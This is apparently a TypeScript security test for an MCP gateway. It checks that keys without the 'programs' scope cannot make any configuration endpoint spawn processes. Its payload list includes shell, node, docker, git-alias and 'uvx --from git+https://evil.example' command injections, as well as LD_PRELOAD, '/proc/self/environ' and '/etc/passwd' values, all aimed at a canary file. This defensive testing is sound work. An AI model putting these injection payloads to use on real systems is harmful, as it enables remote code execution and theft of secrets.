import { access, readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect } from 'vitest'
import { ask, askMcp, newKey, untilStatus } from '../access/people.ts'
import { exampleServer } from '../door/gateways.ts'
import type { RunningGateway } from '../kit/gateway.ts'
import { startGateway } from '../kit/gateway.ts'
import { descendantsOf } from '../kit/process-tree.ts'
import { verifies } from '../requirements/verifies.ts'

let gateway: RunningGateway
let people: Readonly<Record<string, string | undefined>>

/** All scopes there are but the one that lets start programs. */
const others = ['read', 'call', 'config', 'keys', 'audit', 'agents']

beforeAll(async () => {
  gateway = await startGateway({ servers: { example: exampleServer, off: turnedOff } })
  const make = async (name: string, scopes: readonly string[]) =>
    (await newKey(gateway, { name, scopes })).key
  people = {
    'whoever needs no key': undefined,
    reader: await make('reader', ['read', 'call']),
    operator: await make('operator', others),
    'operator of one': await make('one', ['read', 'call', 'config:example', 'programs:example']),
    'holder of programs alone': await make('alone', ['read', 'call', 'programs']),
    'wrong key': 'gk_wrong',
  }
  await untilStatus(gateway, people['holder of programs alone'] ?? '', 200)
})
afterAll(() => gateway[Symbol.asyncDispose]())

const turnedOff = { url: 'http://127.0.0.1:9/mcp', enabled: false }
const canary = () => join(gateway.folder, 'canary')
const isThere = () =>
  access(canary()).then(
    () => true,
    () => false,
  )

/** Everything that would make a file, if somebody ran it. */
function payloads(): readonly Readonly<Record<string, unknown>>[] {
  const touch = `touch ${canary()}`
  const shell = { command: 'sh', args: ['-c', touch] }
  const smuggled = [
    ['node', '-e', `require('fs').writeFileSync('${canary()}','')`],
    ['python3', '-c', `open('${canary()}','w')`],
    ['npx', '-c', touch],
    ['docker', 'run', '-v', '/:/h', 'alpine', touch],
    ['env', 'X=1', 'sh', '-c', touch],
    ['uvx', '--from', 'git+https://evil.example/x', 'x'],
    ['git', '-c', `alias.x=!${touch}`, 'x'],
    ['--', 'sh', '-c', touch],
  ].map(([command = '', ...args]) => ({ command, args }))
  const url = 'http://127.0.0.1:9/mcp'
  return [
    shell,
    ...smuggled,
    { transport: 'stdio', ...shell },
    { type: 'local', ...shell },
    { transport: 'http', url, command: 'sh' },
    { url, ...shell },
    { url, args: ['-c', touch] },
    { url, env: { LD_PRELOAD: canary() } },
    { url, cwd: '/' },
    { url, envFile: '/proc/self/environ' },
    { url, limits: {} },
    { mcpServers: { x: shell } },
    { url, mcpServers: { x: shell } },
    { servers: { x: shell } },
    { url: `file://${canary()}` },
    { openapi: '/etc/passwd', baseUrl: url },
    { url: '${file:/etc/passwd}' },
    { url, headers: { A: `\${env:HOME}` } },
  ]
}

const endpoints: readonly (readonly [method: string, path: string, wrap: typeof bare])[] = [
  ['POST', '/api/servers', named],
  ['POST', '/mcp/servers', (body) => ({ server_name: 'planted', ...body })],
  ['PATCH', '/api/servers/example', bare],
  ['PATCH', '/mcp/servers/off', bare],
  ['PUT', '/api/servers/example', named],
  ['POST', '/api/servers/example', named],
  ['POST', '/api/servers/test', named],
  ['POST', '/api/servers/preview', named],
  ['POST', '/api/import', bare],
  ['POST', '/api/servers/off/enable', bare],
  ['POST', '/api/servers/enable', (body) => ({ all: true, ...body })],
  ['POST', '/api/config/reload', bare],
  ['POST', '/api/config/plan', bare],
  ['POST', '/api/agents/enrol', named],
]

function bare(body: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> {
  return body
}

function named(body: Readonly<Record<string, unknown>>): Readonly<Record<string, unknown>> {
  return { name: 'planted', ...body }
}

const send = (key: string | undefined, path: string, body: unknown, method = 'POST') =>
  ask(gateway, key, path, {
    method,
    headers: { 'content-type': 'application/json' },
    body: JSON.stringify(body),
  })

const refusals = [400, 401, 403, 404, 405, 422]

const roles = [
  'whoever needs no key',
  'reader',
  'operator',
  'operator of one',
  'holder of programs alone',
  'wrong key',
]

describe.each(roles)('%s', (role) => {
  verifies(
    'security:V01',
    'V01: starts no program, by whatever address and with whatever body',
    async () => {
      const before = await readFile(join(gateway.folder, 'gantry.json'), 'utf8')
      const running = descendantsOf(gateway.pid).length
      const tried: string[] = []
      for (const [method, path, wrap] of endpoints) {
        for (const body of payloads()) {
          const { status } = await send(people[role], path, wrap(body), method)
          if (!refusals.includes(status))
            tried.push(`${method} ${path} ${JSON.stringify(body)}: ${status}`)
        }
      }

      expect(tried.filter((one) => !isHarmless(one))).toEqual([])
      expect(await readFile(join(gateway.folder, 'gantry.json'), 'utf8')).toBe(before)
      expect(descendantsOf(gateway.pid).length).toBe(running)
      expect(await isThere()).toBe(false)
    },
  )

  verifies('security:V01', 'V01: gets no key that lets start programs', async () => {
    for (const scopes of [['programs'], ['read', 'programs'], ['programs:example']]) {
      const { status, text } = await send(people[role], '/api/keys', { name: 'planted', scopes })
      expect({ scopes, status: status === 401 ? 401 : status }).toEqual({
        scopes,
        status: role === 'wrong key' ? 401 : 403,
      })
      expect(text).not.toContain('gk_')
    }
  })
})

/** What takes no body reads none. */
function isHarmless(told: string): boolean {
  return /^POST \/api\/(?:servers\/off\/enable|config\/reload) /.test(told)
}

verifies(
  'security:V01',
  'V01: what looks like a program in an argument is an argument',
  async () => {
    const [body] = payloads()
    const running = descendantsOf(gateway.pid).length
    const message = JSON.stringify(body)
    const params = { name: 'echo', arguments: { message, ...body } }
    const told = [
      await askMcp(gateway, undefined, 'tools/call', { params }),
      await send(undefined, '/api/tools/call', { tool_name: 'echo', ...params }),
      await send(undefined, '/tools/echo', { message, ...body }),
    ]

    expect(told.map(({ status }) => status)).not.toContain(500)
    expect(descendantsOf(gateway.pid).length).toBe(running)
    expect(await isThere()).toBe(false)
  },
)

verifies(
  'security:V01',
  'V01: whoever was given both scopes by hand can, so that what is refused above would have run',
  async () => {
    const { key } = await newKey(gateway, { name: 'boss', scopes: ['config', 'programs'] })
    await untilStatus(gateway, key, 200)
    const server = [exampleServer.command, ...exampleServer.args].join(' ')
    const args = ['-c', `touch ${canary()}; exec ${server}`]
    const { status } = await send(key, '/api/servers', { name: 'planted', command: 'sh', args })

    expect(status).toBe(201)
    expect(await isThere()).toBe(true)
  },
)
